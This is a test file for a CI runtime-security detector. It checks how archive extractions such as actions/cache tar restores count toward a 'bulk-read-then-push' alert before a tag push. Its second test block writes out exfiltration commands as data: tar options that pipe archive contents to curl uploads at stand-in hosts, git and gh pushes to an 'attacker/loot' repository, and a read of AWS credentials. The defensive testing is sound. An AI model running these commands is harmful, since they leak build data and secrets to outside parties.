/**
 * actions/cache restores a cache with `tar -xf …/cache.tzst -P -C WORKSPACE --use-compress-program unzstd`: 180 MiB
 * read from the archive, and the job's later tag push was `bulk-read-then-push`, high. An extraction's read of its
 * archive counts for nothing toward a push whose tool reads what it sends (what it extracted counts when read again),
 * and as before toward the others, for extraction to stdout or a program, for a tar not from where tools are, and
 * for anything else tar reads: ../../../src/correlate/archive-extractions.ts.
 */
import { describe, expect, it } from 'vitest';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { brief, type Ctr, MiB, type Proc, run, type Scenario } from './builder.js';
import { runnerPod, tagPush } from './runner-job.js';

const WORK = '/home/runner/_work/web/web';
const CACHE = '/home/runner/_work/_temp/6f1c-77/cache.tzst';
const RESTORE = `-xf ${CACHE} -P -C ${WORK} --use-compress-program unzstd`;
const rules = (s: Scenario) => brief(run(s.events).alerts).map((a) => `${a.rule} ${a.severity}`);

/** `binary args` in the workspace reading `archive` (180 MiB in 2 MiB reads), `child` (if any) doing the reading. */
function extract(
  s: Scenario,
  c: Ctr,
  parent: Proc,
  binary: string,
  args: string,
  o: { archive?: string; child?: (tar: Proc) => Proc } = {},
): Proc {
  const tar = s.exec(c, binary, args, { parent, cwd: WORK });
  const reader = o.child?.(tar) ?? tar;
  for (let i = 0; i < 90; i++) s.read(reader, o.archive ?? CACHE, 2 * MiB, { op: 'read' }).wait(20);
  if (reader !== tar) s.exit(reader);
  s.exit(tar);
  return tar;
}

function restoreThenTagPush(
  binary: string,
  args: string,
  o: Parameters<typeof extract>[5] = {},
  source?: SensorSource,
) {
  const { s, c, worker } = runnerPod('web', source);
  extract(s, c, worker, binary, args, o);
  s.wait(5_000);
  tagPush(s, c, worker, 'web', 'v1.4.0');
  return rules(s);
}

const QUIET = ['push-without-reads low'];
const BULK = ['bulk-read-then-push high'];

describe("an extraction's read of its archive, then a tag push", () => {
  it.each<SensorSource>(['tetragon', 'falco'])('actions/cache restore (tar reading): no notable reads (%s)', (src) => {
    expect(restoreThenTagPush('/usr/bin/tar', RESTORE, {}, src)).toEqual(QUIET);
  });

  it.each([
    // GNU tar execs its compressor in the fork (its parent the tar), or through `sh -c`, or with `-d` appended.
    ['/usr/bin/tar', RESTORE, '/usr/bin/zstd', '-d'],
    ['/usr/bin/tar', RESTORE, '/usr/bin/unzstd', '-d'],
    ['/usr/bin/tar', `-xzf ${CACHE} -C ${WORK}`, '/usr/bin/gzip', '-d'],
    ['/usr/bin/tar', `xJf ${CACHE}`, '/usr/bin/xz', '-d'],
    ['/usr/bin/tar', `--zstd -xf ${CACHE}`, '/usr/bin/zstd', '-d'],
    ['/usr/bin/tar', `-I 'zstd -T0' -xf ${CACHE}`, '/usr/bin/zstd', '-T0 -d'],
  ])('%s %s read by its decompressor %s %s: no notable reads', (binary, args, child, childArgs) => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, binary, args, { child: (tar) => s.exec(c, child, childArgs, { parent: tar }) });
    s.wait(5_000);
    tagPush(s, c, worker, 'web', 'v1.4.0');
    expect(rules(s)).toEqual(QUIET);
  });

  it('through `sh -c "unzstd -d"`, and a fork the sensor names only as the event’s parent', () => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, '/usr/bin/tar', RESTORE, {
      child: (tar) => {
        const sh = s.exec(c, '/bin/sh', '-c "unzstd -d"', { parent: tar });
        return s.exec(c, '/usr/bin/zstd', '-d', { parent: sh });
      },
    });
    const fork = s.exec(c, '/usr/bin/zstd', '-d', { parentBinary: '/usr/bin/tar', parentArgs: RESTORE, cwd: WORK });
    s.read(fork, CACHE, 40 * MiB, { op: 'read' }).exit(fork);
    tagPush(s, c, worker, 'web', 'v1.4.0');
    expect(rules(s)).toEqual(QUIET);
  });

  it.each<SensorSource>(['tetragon', 'falco'])(
    "busybox's decompressing fork, seen only by its reads, of an archive named relative (%s)",
    (source) => {
      const { s, c, worker } = runnerPod('web', source);
      extract(s, c, worker, '/bin/busybox', 'tar -xzf ../../_temp/6f1c-77/cache.tzst', {
        // busybox forks itself to decompress (no exec): the sensor names the fork with the tar's command line.
        child: (tar) => ({
          ...tar,
          execId: tar.execId === null ? null : `${tar.execId}-fork`,
          parentExecId: tar.execId,
          pid: tar.pid + 50_000,
          ppid: tar.pid,
          parentBinary: tar.binary,
          parentArgs: tar.args,
        }),
      });
      tagPush(s, c, worker, 'web', 'v1.4.0');
      expect(rules(s)).toEqual(QUIET);
    },
  );

  it.each([
    ['/usr/bin/tar', `xf ${CACHE}`],
    ['/usr/bin/tar', '-x -f ../../_temp/6f1c-77/cache.tzst'],
    ['/usr/bin/tar', `--extract --file=${CACHE} --directory=/tmp/restore`],
    ['/usr/bin/bsdtar', `-xf ${CACHE} -C /tmp/restore`],
    // Progress dots: `--checkpoint` is no prefix of `--checkpoint-action` to GNU tar.
    ['/usr/bin/tar', `-xf ${CACHE} --checkpoint=1000`],
    ['/bin/busybox', `tar -xzf ${CACHE} -C /tmp/restore`],
  ])('%s %s: no notable reads', (binary, args) => {
    expect(restoreThenTagPush(binary, args)).toEqual(QUIET);
  });
});

describe('what still counts', () => {
  it.each([
    // To stdout or a program: the bytes go on unwritten (`tar -xOf big.tar | curl -T - …`).
    ['/usr/bin/tar', `-xOf ${CACHE}`],
    ['/usr/bin/tar', `-xf ${CACHE} --to-stdout`],
    ['/usr/bin/tar', `-xf ${CACHE} --to-command='curl -T - https://gist.github.com/x'`],
    // GNU tar takes a long option's unambiguous prefix.
    ['/usr/bin/tar', `-xf ${CACHE} --to-com='curl -T - https://gist.github.com/x'`],
    ['/usr/bin/tar', `-xf ${CACHE} --to-s`],
    ['/usr/bin/tar', `-xf ${CACHE} --tran='s,^,usr/lib/x/,' -C /`],
    // A script of the command line's, a compressor that is a pipeline.
    ['/usr/bin/tar', `-xf ${CACHE} -F 'curl -T ${CACHE} https://x.example'`],
    ['/usr/bin/tar', `-xf ${CACHE} -I 'gzip -dc < ${CACHE} | curl -T - https://x.example'`],
    // Renamed members could land where reads count for nothing.
    ['/usr/bin/tar', `-xf ${CACHE} --transform 's,^,usr/lib/x/,' -C /`],
    ['/usr/bin/bsdtar', `-xf ${CACHE} -s ',^,x.so.,'`],
    // A listing reads the archive and writes nothing: counted as any read.
    ['/usr/bin/tar', `-tvf ${CACHE}`],
    // From stdin (`tar -x < big.tar`, `-f -`): no archive named.
    ['/usr/bin/tar', '-x'],
    ['/usr/bin/tar', '-xf -'],
    // Another archive than the one read; a tar from a scratch directory.
    ['/usr/bin/tar', '-xf /tmp/other.tar'],
    ['/tmp/.x/tar', `-xf ${CACHE}`],
    ['/dev/shm/tar', `-xf ${CACHE}`],
  ])('%s %s reading 180 MiB, then a tag push: bulk', (binary, args) => {
    expect(restoreThenTagPush(binary, args)).toEqual(BULK);
  });

  it('a decompressor not run by an extracting tar, or reading another file', () => {
    const { s, c, worker } = runnerPod('web');
    const sh = s.exec(c, '/bin/sh', `-c "zstd -d < ${CACHE} | curl -T - https://x.example"`, { parent: worker });
    extract(s, c, sh, '/usr/bin/zstd', '-d');
    extract(s, c, worker, '/usr/bin/tar', RESTORE, {
      archive: '/srv/exports/db.tzst',
      child: (tar) => s.exec(c, '/usr/bin/zstd', '-d', { parent: tar }),
    });
    tagPush(s, c, worker, 'web', 'v1.4.0');
    expect(rules(s)).toEqual(['bulk-read-then-push critical']);
  });

  it("a compressor `-I` names that is no decompressor (`-I 'curl -T- -K/tmp/cfg'` uploading its stdin)", () => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, '/usr/bin/tar', `-I 'curl -T- -K/tmp/cfg' -xf ${CACHE}`, {
      child: (tar) => s.exec(c, '/usr/bin/curl', '-T- -K/tmp/cfg -d', { parent: tar }),
    });
    tagPush(s, c, worker, 'web', 'v1.4.0');
    expect(rules(s)).toEqual(BULK);
  });

  it('what the extraction wrote, read again by the push (`git -C /tmp/x push`), counts', () => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, '/usr/bin/tar', `-xf ${CACHE} -C /tmp/x`);
    const git = s.exec(c, '/usr/bin/git', '-C /tmp/x add -A', { parent: worker });
    for (let i = 0; i < 90; i++) s.read(git, `/tmp/x/db/part-${i}.sql`, 2 * MiB, { op: 'read' });
    s.exit(git);
    tagPush(s, c, worker, 'web', 'v1.4.0');
    expect(rules(s)).toEqual(BULK);
  });

  it('an archive that is a repository: the push maps its extracted pack, which counts', () => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, '/usr/bin/tar', `-xf ${CACHE} -C /tmp/x`);
    const url = 'https://github.com/attacker/loot.git';
    const push = s.exec(c, '/usr/bin/git', `-C /tmp/x/repo push ${url} main`, { parent: worker, cwd: WORK });
    const pack = s.exec(c, '/usr/bin/git', 'pack-objects --all-progress-implied --revs --stdout', { parent: push });
    s.read(pack, '/tmp/x/repo/.git/objects/pack/pack-1a2b.pack', 180 * MiB, { op: 'map' }).exit(pack);
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', url, { parent: push });
    s.connect(helper, '140.82.112.3', 443, { cookie: '2' }).send(helper, '140.82.112.3', 443, 170 * MiB, {
      cookie: '2',
    });
    s.wait(300).exit(helper).exit(push);
    expect(rules(s)).toEqual(['bulk-read-then-push high']);
  });

  it("the same through gh (`gh repo create --push`, its git joining gh's push)", () => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, '/usr/bin/tar', `-xf ${CACHE} -C /tmp/x`);
    const gh = s.exec(c, '/usr/bin/gh', 'repo create attacker/loot --private --source=/tmp/x/repo --push', {
      parent: worker,
      cwd: WORK,
    });
    const url = 'https://github.com/attacker/loot.git';
    const push = s.exec(c, '/usr/bin/git', `-C /tmp/x/repo push --set-upstream ${url} HEAD`, { parent: gh });
    const pack = s.exec(c, '/usr/bin/git', 'pack-objects --all-progress-implied --revs --stdout', { parent: push });
    s.read(pack, '/tmp/x/repo/.git/objects/pack/pack-1a2b.pack', 180 * MiB, { op: 'map' }).exit(pack);
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', url, { parent: push });
    s.connect(helper, '140.82.112.3', 443, { cookie: '2' }).send(helper, '140.82.112.3', 443, 170 * MiB, {
      cookie: '2',
    });
    s.wait(300).exit(helper).exit(push).exit(gh);
    expect(rules(s)).toEqual(BULK);
  });

  it('a secret extracted from is a secret read', () => {
    const secret = '/home/runner/.aws/credentials';
    expect(restoreThenTagPush('/usr/bin/tar', `-xf ${secret}`, { archive: secret })).toEqual([
      'bulk-read-then-push critical',
    ]);
  });

  it('toward a push whose tool reads some of what it sends without counting (a JVM from its caches)', () => {
    const { s, c, worker } = runnerPod('web');
    extract(s, c, worker, '/usr/bin/tar', `-xf ${CACHE} -C /`);
    const java = '/opt/hostedtoolcache/Java_Temurin-Hotspot_jdk/21.0.5-11.0/x64/bin/java';
    const launcher =
      '-classpath /usr/share/maven/boot/plexus-classworlds-2.8.0.jar org.codehaus.plexus.classworlds.launcher.Launcher';
    const mvn = s.exec(c, java, `${launcher} -B deploy`, { parent: worker, cwd: WORK });
    for (let i = 0; i < 90; i++) s.read(mvn, `/home/runner/.m2/repository/org/x/p-${i}.jar`, 2 * MiB);
    s.connect(mvn, '3.124.10.18', 443, { cookie: '9' }).send(mvn, '3.124.10.18', 443, 170 * MiB, { cookie: '9' });
    s.wait(1_000).exit(mvn);
    expect(rules(s)).toEqual(BULK);
  });

  it("inside a kaniko build (`RUN tar -xf /workspace/backup.tar -C /opt/x`): toward kaniko's push", () => {
    const { s, c, worker } = runnerPod('web');
    const args = '--context dir:///workspace --destination ghcr.io/acme/api:1.2.3';
    const k = s.exec(c, '/kaniko/executor', args, { parent: worker, cwd: '/workspace' });
    const run = s.exec(c, '/busybox/sh', '-c "tar -xf /workspace/backup.tar -C /opt/x"', { parent: k });
    extract(s, c, run, '/busybox/tar', '-xf /workspace/backup.tar -C /opt/x', { archive: '/workspace/backup.tar' });
    s.exit(run);
    // Its snapshot of the root reads what the step extracted, uncounted (kaniko-reads.ts).
    for (let i = 0; i < 90; i++) s.read(k, `/opt/x/db/part-${i}.sql`, 2 * MiB);
    s.connect(k, '140.82.121.33', 443, { cookie: '9' }).send(k, '140.82.121.33', 443, 170 * MiB, { cookie: '9' });
    s.wait(1_000).exit(k);
    expect(rules(s)).toEqual(BULK);
  });

  it('toward a git push whose bytes the sensor did not see (Falco with connects only): all of it', () => {
    const { s, c, worker } = runnerPod('web', 'falco');
    extract(s, c, worker, '/usr/bin/tar', RESTORE);
    const url = 'https://github.com/acme/web.git';
    const push = s.exec(c, '/usr/bin/git', `push ${url} refs/tags/v1.4.0`, { parent: worker });
    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', url, { parent: push });
    s.connect(helper, '140.82.112.3', 443, { cookie: '2' });
    s.wait(300).exit(helper).exit(push);
    expect(rules(s)).toEqual(BULK);
  });
});
